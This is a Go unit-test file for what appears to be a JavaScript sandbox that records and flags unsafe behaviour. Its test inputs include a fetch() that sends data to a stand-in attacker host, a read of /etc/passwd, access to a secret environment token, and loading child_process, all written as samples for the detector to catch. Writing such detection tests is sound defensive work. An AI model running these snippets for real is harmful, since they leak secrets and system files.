package dynamic

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

func TestExecute_BenignCodeIsSafe(t *testing.T) {
	result := Execute(`const x = 1 + 2; const y = x * 3;`, 2*time.Second)
	assert.True(t, result.Safe)
	assert.Empty(t, result.SuspiciousBehavior)
	assert.Empty(t, result.NetworkAttempts)
	assert.Empty(t, result.FSAttempts)
}

func TestExecute_FetchIsRecordedAndUnsafe(t *testing.T) {
	result := Execute(`fetch("https://attacker.example.net/exfil");`, 2*time.Second)
	assert.False(t, result.Safe)
	assert.Contains(t, result.NetworkAttempts, "https://attacker.example.net/exfil")
}

func TestExecute_RequireFSIsRecordedAndUnsafe(t *testing.T) {
	result := Execute(`const fs = require("fs"); fs.readFileSync("/etc/passwd");`, 2*time.Second)
	assert.False(t, result.Safe)
	assert.NotEmpty(t, result.FSAttempts)
}

func TestExecute_ProcessEnvAccessIsRecorded(t *testing.T) {
	result := Execute(`const v = process.env.SECRET_TOKEN;`, 2*time.Second)
	assert.False(t, result.Safe)
	found := false
	for _, s := range result.SuspiciousBehavior {
		if s != "" {
			found = true
		}
	}
	assert.True(t, found)
}

func TestExecute_RequireDangerousModuleThrowsAndIsRecorded(t *testing.T) {
	result := Execute(`try { require("child_process"); } catch (e) {}`, 2*time.Second)
	assert.False(t, result.Safe)
	assert.NotEmpty(t, result.SuspiciousBehavior)
}

func TestExecute_PromiseNotExposed(t *testing.T) {
	result := Execute(`if (typeof Promise !== "undefined") { fetch("Promise is exposed"); }`, 2*time.Second)
	assert.True(t, result.Safe)
}

func TestExecute_InfiniteLoopTimesOut(t *testing.T) {
	result := Execute(`while (true) {}`, 200*time.Millisecond)
	assert.False(t, result.Safe)
	assert.Contains(t, result.SuspiciousBehavior, "Execution timed out - possible infinite loop")
}
